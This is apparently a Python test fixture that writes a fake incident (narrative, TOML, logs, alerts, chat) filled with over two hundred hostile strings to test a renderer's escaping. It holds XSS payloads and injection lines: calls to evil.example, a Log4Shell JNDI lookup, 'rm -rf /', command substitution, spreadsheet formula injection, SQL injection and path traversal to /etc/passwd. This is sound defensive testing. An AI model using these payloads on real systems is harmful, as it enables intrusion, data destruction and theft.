"""Over two hundred lines that try to run, to ask, to hide or to break something, and an incident that carries all.

Each family is a way in; its members are the forms in which that way was open somewhere. What runs sets
``window.PWN`` and opens a dialog; what asks, asks ``evil.example``.
"""

from __future__ import annotations

import json
from pathlib import Path

RUN = "window.PWN=1;alert(1)"
FAR = "https://evil.example"

SCRIPTS = tuple(
    form.replace("RUN", RUN).replace("FAR", FAR)
    for form in (
        "<script>RUN</script>", "<SCRIPT>RUN</SCRIPT>", "<ScRiPt>RUN</sCrIpT>", "<script >RUN</script >",
        "<script/x>RUN</script>", "<script\t>RUN</script>", "<<script>RUN//<</script>", "<scr<script>ipt>RUN</script>",
        "<script src=FAR/x.js></script>", "<script src=//evil.example/x.js>", "<script type=module>RUN</script>",
        "<script type=text/x-mathjax-config>RUN</script>", "</script><script>RUN</script>",
        "</title><script>RUN</script>",
        "</style><script>RUN</script>", "</textarea><script>RUN</script>", "</pre></code><script>RUN</script>",
        "</main></body></html><script>RUN</script>", "]]><script>RUN</script>", "--><script>RUN</script>",
        "<!--><script>RUN</script>-->", "<!--!><script>RUN</script>", "<![CDATA[<script>RUN</script>]]>",
        "<?xml version='1.0'?><script>RUN</script>", "<noscript><p title='</noscript><script>RUN</script>'>",
        "<template><script>RUN</script></template>", "<xmp><script>RUN</script></xmp>",
        "&lt;script&gt;RUN&lt;/script&gt;", "&#60;script&#62;RUN&#60;/script&#62;", "&amp;lt;script&amp;gt;RUN",
        "\\x3cscript\\x3eRUN\\x3c/script\\x3e", "\\u003cscript\\u003eRUN\\u003c/script\\u003e",
        "%3Cscript%3ERUN%3C/script%3E", "+ADw-script+AD4-RUN+ADw-/script+AD4-", "<s%00cript>RUN</script>",
        "＜script＞RUN＜/script＞", "<script>RUN", "<script", "<",
    )
)  # fmt: skip
HANDLERS = tuple(
    f"<{tag} on{event}={RUN}>"
    for tag, event in (
        ("img src=x", "error"), ("img src=x", "load"), ("svg", "load"), ("body", "load"), ("video src=x", "error"),
        ("audio src=x", "error"), ("details open", "toggle"), ("input autofocus", "focus"),
        ("select autofocus", "focus"),
        ("textarea autofocus", "focus"), ("marquee", "start"), ("iframe", "load"), ("object data=x", "error"),
        ("link rel=stylesheet href=x", "error"), ("style", "load"), ("p", "pointerover"), ("p", "mouseenter"),
        ("a href=# autofocus tabindex=1", "focus"), ("div style=animation:a", "animationstart"), ("b", "click"),
        ("div contenteditable", "input"), ("form", "submit"), ("embed src=x", "error"), ("source", "error"),
        ("math", "click"), ("section", "wheel"), ("time", "copy"), ("table", "scroll"), ("td", "focusin"),
        ("summary", "keydown"), ("dialog open", "close"), ("div popover", "beforetoggle"), ("body", "hashchange"),
        ("body", "pageshow"), ("img/src=x", "error"), ("img\tsrc=x\t", "error"), ("image src=x", "error"),
    )
) + tuple(
    form.replace("RUN", RUN)
    for form in (
        '"><img src=x onerror=RUN>', "'><img src=x onerror=RUN>", '" onmouseover=RUN x="',
        "' autofocus onfocus=RUN x='",
        "`><img src=x onerror=RUN>", "<img src=x onerror\n=RUN>", "<img src=x oNeRrOr=RUN>",
        "<img src=x:x onerror=RUN//",
        "<img src=`x`onerror=RUN>", "<a title='<img src=x onerror=RUN>'>", "<p title=\"--><img src=x onerror=RUN>\">",
        "<img alt='`' src=x onerror=RUN title='`'>",
    )
)  # fmt: skip
ADDRESSES = tuple(
    form.replace("ADDRESS", address)
    for form in ("<a href=\"ADDRESS\">log in</a>", "[log in](ADDRESS)", "![log in](ADDRESS)", "<ADDRESS>")
    for address in (
        f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java&#x09;script:{RUN}", f"java\tscript:{RUN}",
        f"&#1;javascript:{RUN}",
        f"javascript&colon;{RUN}", f"vbscript:{RUN}", "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>",
        f"blob:{FAR}/x", "file:///etc/passwd", f"{FAR}/pixel.png",
    )
)  # fmt: skip
DRAWINGS = tuple(
    form.replace("RUN", RUN).replace("FAR", FAR)
    for form in (
        "<svg><script>RUN</script></svg>", "<svg><a xlink:href='javascript:RUN'><text y=20>x</text></a></svg>",
        "<svg><animate onbegin=RUN attributeName=x>", "<svg><set onbegin=RUN>",
        "<svg><use href='data:image/svg+xml,x'>",
        "<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>", "<svg><image href=FAR/x.png /></svg>",
        "<svg><style><img title='</style><img src=x onerror=RUN>'>",
        "<svg></p><style><a id='</style><img src=1 onerror=RUN>'>",
        "<math><mi xlink:href='javascript:RUN'>x</mi></math>",
        "<math><mtext></form><form><mglyph><style></math><img src=x>",
        "<math><annotation-xml encoding='text/html'><img src=x onerror=RUN></annotation-xml></math>",
    )
)  # fmt: skip
REQUESTS = tuple(
    form.replace("FAR", FAR)
    for form in (
        "<img src=FAR/a.png>", "<img srcset='FAR/b.png 1x'>", "<picture><source srcset=FAR/c.png><img></picture>",
        "<video poster=FAR/d.png>", "<audio src=FAR/e.ogg autoplay>", "<input type=image src=FAR/f.png>",
        "<body background=FAR/g.png>", "<table background=FAR/h.png>", "<link rel=stylesheet href=FAR/i.css>",
        "<link rel=prefetch href=FAR/j>", "<link rel=dns-prefetch href=FAR>",
        "<meta http-equiv=refresh content='0;url=FAR'>",
        "<meta http-equiv=Content-Security-Policy content='default-src *'>", "<base href=FAR/>", "<iframe src=FAR>",
        "<iframe srcdoc='<img src=FAR/k.png>'>", "<object data=FAR/l></object>", "<embed src=FAR/m>",
        "<frameset><frame src=FAR>",
        "<form action=FAR><button>go</button></form>", "<a ping=FAR href=#>x</a>",
        "<style>@import url(FAR/n.css);</style>",
        "<style>*{background:url(FAR/o.png)}</style>", "<p style='background:url(FAR/p.png)'>x</p>",
        "<style>@font-face{font-family:x;src:url(FAR/q)}*{font-family:x}</style>",
        "<blockquote cite=FAR>x</blockquote>",
    )
)  # fmt: skip
LAYOUT = (
    "<style>body{display:none}</style>", "<div style='position:fixed;inset:0;background:red'>covered</div>",
    "<div hidden>", "<plaintext>", "<table><tr><td>", "</div></div></section></td></tr></table>",
    "<h1>Nothing happened</h1>",
    "<h1 id=main>x</h1>", "<details><summary>x", "<pre>", "<ul><li><ul><li>", "<b><i><u>", "<dialog open>x</dialog>",
    "<!-- never closed", "<title>other</title>", "<base target=_blank>", "<marquee>x</marquee>", "<textarea>",
    "<select><option>",
    '<button data-commandlinker-command="terminal:create-new">go</button>', "<p id=claim-onset>x</p>", "<br>" * 60,
    "W" * 3000, "é" * 900, "漢" * 900, "a/" * 700, "_" * 500, "&nbsp;" * 200, "🏴" * 200, "x\u0301" * 300,
)  # fmt: skip
UNSEEN = (
    "user \u202egpj.exe\u202c", "\u2066isolated\u2069", "zero\u200bwidth\ufeff pay\u2060load", "\u2028\u2029ends",
    "soft\u00adhyphen", "\u200f\u061cright", "\U000e0041\U000e0042 tags", "null \x00 bell \x07 back \x08\x08\x08",
    "\x1b[31mred\x1b[0m", "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\", "\x1b[2J\x1b[H cleared", "\x9b31m C1",
    "\x1bP+q544e\x1b\\", "\r overwritten", "\x0b\x0c\x1c\x1d\x1e\x85",
)  # fmt: skip
MARKDOWN = (
    "# A heading", "Setext\n===", "***", "- a list\n- of two", "1. first", "> quoted", "    indented code",
    "```\nfence",
    "~~~html\nfence", "| a | b |\n|---|---|\n| c | d |", "a | pipe | table", "[a]: https://evil.example/ref",
    "[a][a] and [a]",
    "[^1]: note", "**bold** _it_ ~~gone~~", "`code` ``co`de``", "line  \nbreak\\", "&lt;b&gt; &amp; &copy; &#x41;",
    "\\<b\\>",
    "<https://evil.example/auto>", "www.evil.example", "@everyone #1 :+1:", "![x](attachment:none.png)",
    '![a"onerror="alert(1)](x)', '[x](y "t\' onclick=alert(1)")', "[x]( javascript:alert(1) )", "==mark== ^up^ H~2~O",
    "<!-- -->", "- [ ] task", "***bold*", "[![x](https://evil.example/i.png)](javascript:alert(1))",
)  # fmt: skip
FORMULAE = (
    "costs $5 and $6", "$x^2$", "$$\\unicode{<img src=x onerror=alert(1)>}$$", "\\(x\\) \\[y\\]",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\undefined{", "\\begin{equation}x\\end{equation}", "{{ 7*7 }}", "{{ onset }}",
    "{% for x in y %}{{x}}{% endfor %}", "{# gone #}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}", "${7*7} #{7*7} <%= 7*7 %>", "%s %d %(name)s {0} {name!r}",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)", "+1+1", "-1+1", "; rm -rf / #", "$(touch /tmp/pwn) `id`", "' OR 1=1 --", "../../etc/passwd",
    "\\\\host\\share",
    "${jndi:ldap://evil.example/a}", '"quoted" \'twice\'', "[section]\nkey = 1", '{"json": true}', "<?php echo 1 ?>",
    "%00%0a", "NaN",
)  # fmt: skip

LINES = (
    *SCRIPTS, *HANDLERS, *ADDRESSES, *DRAWINGS, *REQUESTS, *LAYOUT, *UNSEEN, *MARKDOWN, *FORMULAE,
)  # fmt: skip
FIELDS = 40  # of the declared facts: enough that each family is in each


def few(start: int, count: int = FIELDS) -> list[str]:
    """Lines from all over the corpus, others for each start."""
    return [LINES[(start + n * (len(LINES) // count)) % len(LINES)] for n in range(count)]


def hostile_incident(root: Path, name: str = "2026-02-02-hostile") -> Path:
    """Write an incident under ``data/incidents`` of a root in which every line stands somewhere; return its folder."""
    folder = root / "data" / "incidents" / name
    for part in ("logs", "events", "metrics", "events/slack/war-room"):
        (folder / part).mkdir(parents=True)
    said = "\n\n".join(line for line in LINES if "{{" not in line and "{%" not in line and "{#" not in line)
    (folder / "narrative.md").write_text(f"## Summary\n\nIt broke.\n\n## Lessons\n\n{said}\n", encoding="utf-8")
    (folder / "incident.toml").write_text(_facts(), encoding="utf-8")
    (folder / "logs" / _file_name("app", "jsonl")).write_text(_logs(), encoding="utf-8")
    _dump(folder / "events" / "alerts.jsonl", [_event(n, "alert", line) for n, line in enumerate(LINES)])
    _dump(folder / "metrics" / "m.jsonl", _metrics())
    chat = [
        {"type": "message", "user": f"U{n}", "text": line, "ts": f"{1769999400 + n * 5}.000100"}
        for n, line in enumerate(LINES)
    ]
    (folder / "events/slack/war-room/2026-02-02.json").write_text(json.dumps(chat), encoding="utf-8")
    return folder


def _quoted(text: str) -> str:
    return json.dumps(text, ensure_ascii=False)


def _facts() -> str:
    quoted = [_quoted(line) for line in few(3)]
    timeline = "".join(
        f"[[timeline]]\nat = '10:{31 + n % 20}'\nkind = 'observation'\ntext = {text}\n"
        for n, text in enumerate(map(_quoted, few(5)))
    )
    actions = "".join(
        f"[[actions]]\ntext = {text}\nkind = 'prevent'\nowner = {text}\ncheck = {text}\n"
        for text in map(_quoted, few(7))
    )
    paths = "".join(
        f"[[hypotheses]]\ntext = {text}\nfrom = '10:31'\nto = '10:35'\nverdict = 'refuted'\nrefuted_by = {text}\n"
        for text in map(_quoted, few(2, 8))
    )
    return (
        f"title = {quoted[0]}\nsummary = {quoted[1]}\ncause = {quoted[2]}\ntrigger = {quoted[3]}\nzone = 'UTC'\n"
        f"date = 2026-02-02\nseverity = {quoted[4]}\nservices = [{', '.join(quoted[5:9])}]\n"
        f"factors = [{', '.join(quoted)}]\n"
        "[milestones]\nstarted = '2026-02-02T10:30Z'\ndetected = '2026-02-02T10:33Z'\n"
        f"[[signals]]\nname = {quoted[9]}\nkind = 'ratio'\nsource = 'logs'\nbad = {{ level = 'ERROR' }}\n"
        f"total = {{ level = ['ERROR', 'INFO'] }}\n{timeline}{paths}{actions}"
    )


def _file_name(stem: str, ending: str) -> str:
    return f"{stem} <img src=x onerror=alert(1)> $x$ [a](b).{ending}"


def _logs() -> str:
    """An hour of lines; while it was broken, the corpus, three times over."""
    rows = []
    for minute in range(60):
        broken = 30 <= minute < 42
        texts = LINES[(minute - 30) % 4 :: 4] if broken else ["all is well"] * 40
        for n, text in enumerate(texts):
            time = f"2026-02-02T10:{minute:02d}:{n * 59 // len(texts):02d}.{n:03d}Z"
            service = LINES[n % 60] if broken else "web"
            rows.append({"time": time, "level": "ERROR" if broken else "INFO", "service": service, "message": text})
    return "".join(json.dumps(row) + "\n" for row in rows)


def _event(n: int, kind: str, text: str) -> dict[str, str]:
    return {"time": f"2026-02-02T10:{31 + n % 12}:{n % 60:02d}Z", "kind": kind, "text": text, "actor": text[:80]}


def _metrics() -> list[dict[str, object]]:
    return [
        {
            "time": f"2026-02-02T10:{m:02d}:00Z",
            "service": LINES[k],
            "metric": LINES[k + 40],
            "value": 100 * (30 <= m < 42) + k + m % 3,
        }
        for k in range(4)
        for m in range(60)
    ]


def _dump(file: Path, rows: list[dict[str, object]] | list[dict[str, str]]) -> None:
    file.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
